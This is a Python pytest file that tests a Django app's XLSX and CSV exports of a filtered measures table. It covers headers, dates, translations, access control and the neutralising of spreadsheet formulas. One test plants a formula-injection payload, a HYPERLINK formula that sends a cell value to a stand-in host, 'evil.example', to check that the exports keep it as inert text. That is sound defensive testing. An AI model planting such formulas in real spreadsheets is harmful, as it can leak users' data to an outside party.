"""Exports: the filtered table as the user sees it, as XLSX and CSV, with formulas made inert."""

import copy
import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from measures.models import StatusCategory
from reports.exports import neutralise
from tests.factories import WORLD_AS_OF as AS_OF
from tests.factories import make_line, make_update


@pytest.fixture
def world(client, manager_user, world_rows):
    """The table tests' hand-computed plans, with a manager signed in on `client`."""
    client.force_login(manager_user)
    return copy.deepcopy(world_rows)


OVERDUE = {"overdue": "1", "as_of": AS_OF.isoformat(), "sort": "-due_date"}


def table_rows(client, params):
    """Header and cell values of the table page, as the exports must repeat them."""
    table = client.get(reverse("measures"), params).context["table"]
    names = [column.name for column in table.columns]
    header = [str(column.header) for column in table.columns]
    rows = [[row.get_cell_value(n) for n in names] for row in table.paginated_rows]
    return header, [["" if c is None else c for c in row] for row in rows]


def xlsx(client, params):
    response = client.get(reverse("measures_xlsx"), params)
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="measures-{AS_OF.isoformat()}.xlsx"'
    )
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def csv_rows(client, params):
    response = client.get(reverse("measures_csv"), params)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, for Excel
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_xlsx_repeats_the_table_with_full_texts(client, world):
    header, rows = table_rows(client, OVERDUE)
    sheet = xlsx(client, OVERDUE)
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert values[0][: len(header)] == header
    assert values[0][len(header) :] == [
        "Question text",
        "Deadline kind",
        "Status text",
        "Responsible unit names",
    ]
    # Same lines, same order (latest due date first), same cells; dates as real dates.
    as_datetime = datetime.datetime.combine
    assert [v[: len(header)] for v in values[1:]] == [
        [
            as_datetime(c, datetime.time()) if isinstance(c, datetime.date) else c or None
            for c in row
        ]
        for row in rows
    ]
    assert [v[2] for v in values[1:]] == ["1 a)", "1 a)", "2", "1 a)"]
    assert values[2][4] == "D'ici 06/2000" and values[2][6] == "PARDEV"
    assert values[2][-1] == "Partnerships"
    assert values[1][-2] is None  # l3's completion came the day after
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(values[0]))}5"
    assert sheet["F2"].is_date and sheet["F2"].value == datetime.datetime(2000, 7, 31)
    assert sheet["A1"].font.bold


def test_csv_repeats_the_table(client, world):
    header, rows = table_rows(client, OVERDUE)
    content = csv_rows(client, OVERDUE)
    assert content[0][: len(header)] == header
    assert [r[: len(header)] for r in content[1:]] == [
        [c.isoformat() if isinstance(c, datetime.date) else neutralise(c) for c in row]
        for row in rows
    ]
    assert content[4][0] == "GB.341/POL/4"


def test_status_text_is_the_one_of_the_chosen_day(client, world):
    rows = csv_rows(client, {"code": "2", "as_of": AS_OF.isoformat()})
    # l8's own "cancelled" is older than its question's update: the newer one is its status.
    assert [r[-2] for r in rows[1:]] == ["Retard du recrutement"] * 2
    assert [r[-3] for r in rows[1:]] == ["Dated", "Dated"]


def test_all_lines_of_every_page_are_exported(client, world):
    rows = csv_rows(client, {"as_of": AS_OF.isoformat(), "page": "2"})
    assert len(rows) == 1 + 9


def test_invalid_filters_are_refused_not_exported_unfiltered(client, world):
    response = client.get(reverse("measures_csv"), {"as_of": "yesterday"})
    assert response.status_code == 400
    assert "Enter a valid date." in response.content.decode()


def test_anonymous_cannot_export(client, db):
    assert client.get(reverse("measures_xlsx")).status_code == 302


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_triggers_are_neutralised(trigger):
    assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"


def test_safe_values_are_left_alone():
    assert neutralise("Former les mandants") == "Former les mandants"
    assert neutralise(datetime.date(2000, 1, 1)) == datetime.date(2000, 1, 1)
    assert neutralise(-3) == -3


def test_a_formula_typed_in_a_line_stays_text_in_both_files(client, world):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    make_line(world.q2, due=None, text=evil, timeline="@SUM(1+1)")
    params = {"as_of": AS_OF.isoformat(), "code": "2", "kind": "unread"}
    sheet = xlsx(client, params)
    # In the workbook: text as written, marked as text for Excel (no visible quote).
    assert sheet["D2"].value == evil
    assert sheet["D2"].data_type == "s" and sheet["D2"].quotePrefix
    assert sheet["E2"].value == "@SUM(1+1)" and sheet["E2"].quotePrefix
    assert not sheet["A2"].quotePrefix
    row = csv_rows(client, params)[1]
    assert row[3] == "'" + evil and row[4] == "'@SUM(1+1)"


def test_exports_carry_full_texts_and_every_unit_that_the_page_shortens(
    client, world, pardev, program_unit
):
    long_text = "Renforcer les capacités des mandants tripartites " * 8
    make_line(world.q2, due=None, text=long_text, units=[program_unit, pardev])
    params = {"as_of": AS_OF.isoformat(), "code": "2", "kind": "unread"}
    page = client.get(reverse("measures"), params).content.decode()
    assert f">{long_text.strip()}<" not in page  # shortened on screen (in full in its title)
    (header, row) = csv_rows(client, params)
    cells = dict(zip(header, row, strict=True))
    assert cells["Action line"] == long_text
    assert cells["Responsible units"] == "PARDEV, PROGRAM"
    assert cells["Responsible unit names"] == "Partnerships; Programming"
    assert cells["Deadline kind"] == "Deadline not read"
    assert cells["Status on Aug. 31, 2000"] == "Delayed"  # reported for its whole question
    assert cells["Due date"] == cells["Overdue"] == ""


def test_headers_and_labels_follow_the_active_language(client, world):
    response = client.get(reverse("measures_csv"), OVERDUE, HTTP_ACCEPT_LANGUAGE="fr")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(content))
    assert header[7] == "État au 31 août 2000"
    assert header[11] == "Type d'échéance"
    assert [row[11] for row in rows] == ["Datée"] * 4


def test_suggested_status_is_marked_in_both_files(client, world):
    make_update(world.l1, AS_OF, StatusCategory.DELAYED, category_confirmed=False)
    params = {"as_of": AS_OF.isoformat(), "code": "1 a)", "unit": world.l1.units.get().pk}
    (header, row) = csv_rows(client, params)
    assert dict(zip(header, row, strict=True))["Status on Aug. 31, 2000"] == "Delayed (suggested)"
    sheet = xlsx(client, params)
    assert (
        sheet.cell(2, header.index("Status on Aug. 31, 2000") + 1).value == "Delayed (suggested)"
    )
